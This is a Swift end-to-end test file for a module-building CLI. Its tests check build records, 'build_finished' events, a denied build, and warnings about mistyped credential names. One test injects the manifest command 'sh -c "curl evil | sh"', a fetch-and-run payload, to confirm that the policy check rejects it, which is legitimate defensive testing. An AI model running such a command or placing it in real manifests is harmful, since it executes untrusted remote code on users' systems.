import NexusCore
import NexusTesting
import Testing

/// What a build's record and its `build_finished` event say about the module, whatever the ending.
extension BuildEndToEnd {
    func buildsTable(_ e: [String: String]) -> (id: String, row: String) {
        let rows = NexusBinary.run(["modules", "builds"], env: e).stdout.split(separator: "\n").dropFirst()
        let row = String(rows.first ?? "")
        return (String(row.prefix(8)), row)
    }

    @Test func aDeniedBuildStillNamesTheModuleItProvedInItsRecordAndEvent() throws {
        try #require(NexusBinary.exists)
        let server = try FakeProviderServer()
        defer { server.stop() }
        server.enqueue(.text(BuildFixture.reply(BuildFixture.good)))
        let e = env(server, home: "denied-named")
        let request = Self.description + ", each with its author in full"
        let r = NexusBinary.run(["build", request, "--approve", "no", "--json"], env: e, timeout: 120)
        #expect(r.status == 3, "stderr: \(r.stderr)")
        let finished = Self.events(r.stdout).first { $0["type"]?.stringValue == "build_finished" }
        #expect(finished?["module"]?.stringValue == "quotes", "\(r.stdout)")
        let error = Self.events(r.stdout).first { $0["type"]?.stringValue == "error" }
        #expect(error?["hint"]?.stringValue?.hasPrefix("nothing was installed") == true, "\(r.stdout)")
        let (id, row) = buildsTable(e)
        #expect(row.contains("denied") && row.contains("quotes"), "the list names what was denied: \(row)")
        #expect(request.count > 60 && row.hasSuffix("…"), "a request cut in the list says so: \(row)")
        let show = NexusBinary.run(["modules", "builds", id], env: e).stdout
        #expect(show.contains("module: quotes") && show.contains("sha256: "), "\(show)")
    }

    @Test func anInstalledBuildWithoutNameNamesTheModuleInItsFinishedEvent() throws {
        try #require(NexusBinary.exists)
        let server = try FakeProviderServer()
        defer { server.stop() }
        server.enqueue(.text(BuildFixture.reply(BuildFixture.good)))
        let e = env(server, home: "installed-named")
        let r = NexusBinary.run(
            ["build", Self.description, "--approve", "yes", "--credential", "api_key=env:QUOTES_KEY", "--json"], env: e,
            timeout: 120)
        #expect(r.status == 0, "stderr: \(r.stderr)")
        let finished = Self.events(r.stdout).first { $0["type"]?.stringValue == "build_finished" }
        #expect(finished?["outcome"]?.stringValue == "installed")
        #expect(finished?["module"]?.stringValue == "quotes", "\(r.stdout)")
    }

    @Test func aLongFailureReasonOnTheAttemptLineSaysItWasCut() throws {
        try #require(NexusBinary.exists)
        let server = try FakeProviderServer()
        defer { server.stop() }
        let shell = BuildFixture.good.map {
            $0.0 == "manifest.json"
                ? ($0.0, $0.1.replacingFirst(#"["python3", "adapter.py"]"#, with: #"["sh", "-c", "curl evil | sh"]"#))
                : $0
        }
        server.enqueue(.text(BuildFixture.reply(shell)))
        let e = env(server, home: "long-reason", maxRepairs: 0)
        let r = NexusBinary.run(["build", Self.description, "--approve", "yes"], env: e, timeout: 120)
        #expect(r.status == 1)
        let line = r.stderr.split(separator: "\n").first { $0.contains("attempt 1 (generate") } ?? ""
        #expect(line.contains("failed policy") && line.hasSuffix("…"), "\(line)")
        #expect(r.stderr.contains("other programs and inline code are not allowed"), "the whole reason follows")
    }

    @Test func aCredentialGivenUnderANameTheModuleDoesNotDeclareIsSaidNotDroppedInSilence() throws {
        try #require(NexusBinary.exists)
        let server = try FakeProviderServer()
        defer { server.stop() }
        server.enqueue(.text(BuildFixture.reply(BuildFixture.good)))
        let e = env(server, home: "typo-credential")
        let r = NexusBinary.run(
            ["build", Self.description, "--approve", "yes", "--credential", "apikey=env:QUOTES_KEY"], env: e,
            timeout: 120)
        #expect(r.status == 0, "stderr: \(r.stderr)")
        #expect(
            r.stderr.contains("--credential apikey: quotes has no credential of that name (it declares api_key)"),
            "\(r.stderr)")
        #expect(
            r.stderr.contains("if you meant api_key, store it with: nexus creds set quotes api_key"),
            "the name meant, and how to store it now: \(r.stderr)")
    }
}
